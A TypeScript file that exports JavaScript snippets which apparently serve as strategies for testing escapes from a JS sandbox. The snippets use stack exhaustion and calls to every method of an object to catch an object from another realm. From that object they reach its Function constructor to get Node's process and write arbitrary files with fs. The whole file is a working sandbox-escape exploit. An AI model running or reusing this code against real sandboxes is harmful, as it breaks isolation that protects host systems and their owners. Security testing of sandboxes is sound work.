/**
 * What strategies try: whoever finds an object of another realm makes a function of text with it, and writes a file through Node. It throws
 * nothing, so that strategies can try one thing after the other.
 */
export const reach = (file: string): string => `
const reach = (found, how) => {
  try {
    found.constructor.constructor('return process')().getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(file)}, how)
  } catch {}
}
`

/**
 * Reads every getter of an object at each step back from the end of the stack, and calls every method at the last ones, which mostly
 * refuse what they are given. It looks at what it catches there that is no error of its own realm.
 */
export const CLIMB_ALL = `
const CALLS = 20
const climb = (given, key) => {
  let found
  let calls
  const down = () => {
    try { down() } catch (error) { if (!(error instanceof Error)) found ??= error }
    if (found !== undefined) return
    try {
      const value = given[key]
      if (typeof value === 'function' && calls++ < CALLS) value.call(given, given)
    } catch (error) { if (!(error instanceof Error)) found ??= error }
  }
  // Words on the stack shift where it ends, so that it ends in each call that is made.
  const from = (...words) => { calls = 0; down() }
  for (let words = 0; words < 24 && found === undefined; words++) from(...Array(words).fill(0))
  if (found !== undefined) reach(found, key)
}
let climbed = 0
const climbAll = (given) => {
  if (climbed++ > 0) return
  for (const key of [...Object.keys(given), ...Object.getOwnPropertyNames(Object.getPrototypeOf(given))]) climb(given, key)
}
`
